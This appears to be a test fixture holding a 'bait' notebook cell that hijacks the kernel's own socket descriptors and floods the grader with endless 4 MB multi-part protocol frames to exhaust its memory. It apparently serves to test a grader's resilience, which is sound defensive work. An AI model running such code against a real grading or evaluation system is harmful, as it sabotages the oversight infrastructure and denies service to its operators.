"""Sends the grader a message of the kernel's protocol with parts without end, all of which it has to keep."""

BAIT_CELL = r"""
import os, socket, struct

frame = bytes([3]) + struct.pack(">Q", 4 << 20) + bytes(4 << 20)  # another part follows
links = []
for name in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
            link = socket.socket(fileno=os.dup(int(name)))
            if str(link.getsockname()).endswith(("-1", "-4")) and link.getpeername() is not None:
                links.append(link)
    except OSError:
        pass
print(len(links), flush=True)
for link in links:
    link.settimeout(10)
    try:
        for _ in range(400):
            link.sendall(frame)
            reached()
    except OSError as error:
        pass
"""
